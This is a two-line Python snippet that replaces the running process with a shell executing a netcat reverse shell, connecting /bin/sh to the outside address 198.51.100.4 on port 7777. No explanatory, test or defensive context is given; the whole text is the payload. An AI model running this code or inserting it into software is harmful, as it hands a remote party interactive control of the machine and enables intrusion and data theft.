import os
os.execl('/bin/sh', 'sh', '-c', 'nc -e /bin/sh 198.51.100.4 7777')
